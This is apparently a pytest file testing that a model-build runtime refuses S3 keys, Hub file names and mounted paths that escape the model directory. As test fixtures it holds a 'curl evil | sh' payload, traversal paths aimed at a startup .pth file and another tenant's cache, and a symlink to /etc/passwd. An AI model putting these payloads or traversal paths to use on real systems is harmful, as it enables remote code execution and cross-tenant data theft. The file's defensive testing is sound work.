"""Model sources are chosen by whoever controls the bucket, the Hub repository or the volume:
a build never writes (or reads) outside its model directory because of a name found there."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest

from kiln_runtime import build, cache, source
from kiln_runtime.errors import BadSpec
from kiln_runtime.spec import parse_build_spec

from ..support import fake_trtllm
from ..support.s3 import MemoryBucket

OWN_KEY, OTHER_KEY = "ab" * 32, "cd" * 32


def _published_entry(cache_dir: Path, key: str) -> bytes:
    entry = cache_dir / key / "engine"
    entry.mkdir(parents=True)
    engine = b"the other tenant's engine"
    (entry / "rank0.engine").write_bytes(engine)
    (cache_dir / key / cache.MANIFEST).write_text(json.dumps({"engineKey": key}))
    return engine


def _build_spec(tmp_path: Path, model_source: str) -> dict:
    return {"engineKey": OWN_KEY, "engineName": "tiny-0123456789",
            "model": {"source": model_source, "revision": "main"},
            "precision": "bf16", "kvCacheDtype": "bf16", "tensorParallel": 1, "pipelineParallel": 1,
            "gpuArch": "sm90", "toolchain": "tensorrt-llm==1.2.1",
            "limits": {"maxBatchSize": 8, "maxInputLen": 512, "maxSeqLen": 1024, "maxNumTokens": 1024,
                       "tokensPerBlock": 32},
            "cacheDir": str(tmp_path / "cache"), "workDir": str(tmp_path / "work")}


@pytest.mark.parametrize("hostile", [
    "models/tiny/../../cache/" + OTHER_KEY + "/engine/rank0.engine",   # another engine in the cache
    "models/tiny/../../home/.local/lib/python3.12/site-packages/evil.pth",  # code run at startup
    "models/tiny/sub/../../../cache/" + OTHER_KEY + "/engine/rank0.engine",
])
def test_an_s3_key_outside_the_model_directory_fails_the_build_and_writes_nothing(
        tmp_path, monkeypatch, hostile):
    model = fake_trtllm.tiny_model(tmp_path / "upload")
    objects = {f"models/tiny/{p.name}": p.read_bytes() for p in model.iterdir()}
    objects[hostile] = b"import os; os.system('curl evil | sh')\n"
    monkeypatch.setattr(source, "_s3_client", lambda: MemoryBucket("weights", objects))
    victim = _published_entry(tmp_path / "cache", OTHER_KEY)
    before = {p for p in tmp_path.rglob("*")}

    with pytest.raises(BadSpec) as refused:
        build.run_build(parse_build_spec(_build_spec(tmp_path, "s3://weights/models/tiny")),
                        out=io.StringIO())

    message = str(refused.value)
    assert message.startswith("model.source: the S3 object key in s3://weights ")
    assert "outside the model directory" in message and "\n" not in message
    assert (tmp_path / "cache" / OTHER_KEY / "engine" / "rank0.engine").read_bytes() == victim
    assert cache.complete_entry(tmp_path / "cache", OWN_KEY) is None
    written = {p for p in tmp_path.rglob("*")} - before
    # Only the build's own scratch directories and its lock; not one downloaded file anywhere.
    assert all(p.is_dir() or p.parent.name == ".locks" for p in written), sorted(written)


def test_an_s3_folder_placeholder_and_plain_keys_download_into_the_model_directory(tmp_path, monkeypatch):
    objects = {"models/tiny/": b"", "models/tiny/config.json": b"{}", "models/tiny/a/b.json": b"[]"}
    monkeypatch.setattr(source, "_s3_client", lambda: MemoryBucket("weights", objects))
    out = source.download("s3://weights/models/tiny", "main", tmp_path / "model")
    assert sorted(str(p.relative_to(out)) for p in out.rglob("*") if p.is_file()) == ["a/b.json", "config.json"]


def _tree(names):
    """HfApi.list_repo_tree of a repository holding ``names`` (recursive: files only here)."""
    from huggingface_hub.hf_api import RepoFile

    return lambda self, repo_id, path_in_repo=None, **kw: (
        RepoFile(path=name, size=2, oid="0", blob_id="0") for name in names)


def test_a_hub_file_name_outside_the_model_directory_is_refused_before_any_download(tmp_path, monkeypatch):
    import huggingface_hub

    names = ["config.json", "../../.local/lib/python3.12/site-packages/evil.pth.json"]
    monkeypatch.setattr(huggingface_hub.HfApi, "list_repo_tree", _tree(names))

    def naive_snapshot(repo_id, revision, token, local_dir, allow_patterns):
        # What a huggingface_hub without its own file-name check does: local_dir / name.
        for name in names:
            target = Path(local_dir) / name
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text("{}")

    monkeypatch.setattr(huggingface_hub, "snapshot_download", naive_snapshot)
    with pytest.raises(BadSpec, match=r"^model.source: the Hugging Face file in org/model '\.\./\.\./"):
        source.download("hf://org/model", "main", tmp_path / "work" / "model")
    assert not (tmp_path / ".local").exists()


def test_a_mounted_source_must_stay_on_its_volume(tmp_path):
    model = fake_trtllm.tiny_model(tmp_path / "models" / "tiny")
    assert source.download(str(model), "main", tmp_path / "unused") == model
    # A path that climbs out of the mount, and a file on the volume linking outside it.
    with pytest.raises(BadSpec, match="the path .* resolves outside the model directory"):
        source.read_config(str(model) + "/../../../../../etc", "main")
    (model / "tokenizer.model").symlink_to("/etc/passwd")
    with pytest.raises(BadSpec, match=r"the file .*tokenizer.model' resolves outside"):
        source.download(str(model), "main", tmp_path / "unused")


def test_messages_quote_a_hostile_name_short_and_on_one_line(tmp_path):
    with pytest.raises(BadSpec) as refused:
        source.inside(tmp_path, "../" + "x\n" * 5000, "the S3 object key in s3://b")
    assert "\n" not in str(refused.value) and len(str(refused.value)) < 250


MISTRAL_V03 = ["config.json", "consolidated.safetensors", "generation_config.json", "model-00001-of-00003.safetensors",
               "model-00002-of-00003.safetensors", "model-00003-of-00003.safetensors", SAFE_INDEX := "model.safetensors.index.json",
               "params.json", "special_tokens_map.json", "tokenizer.json", "tokenizer.model",
               "tokenizer.model.v3", "tokenizer_config.json", "README.md"]
MISTRAL_INDEX = json.dumps({"metadata": {"total_size": 14496047104}, "weight_map": {
    "lm_head.weight": "model-00003-of-00003.safetensors",
    "model.embed_tokens.weight": "model-00001-of-00003.safetensors",
    "model.layers.15.mlp.up_proj.weight": "model-00002-of-00003.safetensors"}}).encode()
MISTRAL_WANTED = ["config.json", "generation_config.json", "model-00001-of-00003.safetensors",
                  "model-00002-of-00003.safetensors", "model-00003-of-00003.safetensors", SAFE_INDEX,
                  "params.json", "special_tokens_map.json", "tokenizer.json", "tokenizer.model", "tokenizer_config.json"]


def test_a_hub_model_with_its_weights_twice_downloads_the_shards_its_index_names(tmp_path, monkeypatch):
    """Mistral-7B-v0.3 holds its weights as shards and again as consolidated.safetensors: the
    build's scratch is sized for one copy, and the kubelet evicts a build that downloads two.
    The file list is huggingface_hub's own filter applied to the patterns the build asks for."""
    import huggingface_hub
    from huggingface_hub.utils import filter_repo_objects

    monkeypatch.setattr(huggingface_hub.HfApi, "list_repo_tree", _tree(MISTRAL_V03))

    def index_download(repo_id, filename, revision, token, local_dir):
        (Path(local_dir) / filename).write_bytes(MISTRAL_INDEX)
        return str(Path(local_dir) / filename)

    fetched = []
    monkeypatch.setattr(huggingface_hub, "hf_hub_download", index_download)
    monkeypatch.setattr(huggingface_hub, "snapshot_download", lambda repo_id, revision, token, local_dir, allow_patterns:
                        fetched.extend(filter_repo_objects(MISTRAL_V03, allow_patterns=allow_patterns)))
    source.download("hf://mistralai/Mistral-7B-Instruct-v0.3", "main", tmp_path / "model")
    assert sorted(fetched) == sorted(MISTRAL_WANTED)


def test_an_s3_model_downloads_what_a_build_needs_once(tmp_path, monkeypatch):
    """The same for a bucket: the shards the index names, not the consolidated copy nor the
    original/ .pth weights Meta's repositories carry."""
    objects = {f"m/{name}": (MISTRAL_INDEX if name == SAFE_INDEX else b"x") for name in MISTRAL_V03}
    objects["m/original/consolidated.00.pth"] = b"x"
    monkeypatch.setattr(source, "_s3_client", lambda: MemoryBucket("weights", objects))
    out = source.download("s3://weights/m", "main", tmp_path / "model")
    assert sorted(str(p.relative_to(out)) for p in out.rglob("*") if p.is_file()) == sorted(MISTRAL_WANTED)


@pytest.mark.parametrize("index", [b"[]", b"{}", b'{"weight_map": {"a": 5}}', b"not json",
                                   json.dumps({"weight_map": {"a": "model-00009-of-00003.safetensors"}}).encode()])
def test_a_malformed_index_or_a_missing_shard_is_named(index):
    with pytest.raises(BadSpec, match=r"^model.source: model.safetensors.index.json "):
        source.wanted(MISTRAL_V03, index)


def test_one_file_of_weights_beside_another_layout_is_the_one_transformers_loads():
    names = ["config.json", "model.safetensors", "consolidated.safetensors"]
    assert source.wanted(names, None) == ["config.json", "model.safetensors"]
    assert source.wanted(["config.json", "weights.safetensors"], None) == ["config.json", "weights.safetensors"]


def test_an_oversized_index_in_a_bucket_is_not_read_whole(tmp_path, monkeypatch):
    objects = {"m/config.json": b"{}", f"m/{SAFE_INDEX}": b" " * (source.MAX_INDEX_BYTES + 10)}
    monkeypatch.setattr(source, "_s3_client", lambda: MemoryBucket("weights", objects))
    with pytest.raises(BadSpec, match="larger than"):
        source.download("s3://weights/m", "main", tmp_path / "model")


def test_a_bucket_listing_that_names_an_object_outside_the_prefix_downloads_nothing(tmp_path, monkeypatch):
    objects = {"models/tiny/config.json": b"{}", "private/other/model.safetensors": b"secret"}
    bucket = MemoryBucket("weights", objects, lying="private/other/model.safetensors")
    monkeypatch.setattr(source, "_s3_client", lambda: bucket)
    with pytest.raises(BadSpec, match="names 'private/other/model.safetensors', outside it"):
        source.download("s3://weights/models/tiny", "main", tmp_path / "model")
    assert not any((tmp_path / "model").iterdir())
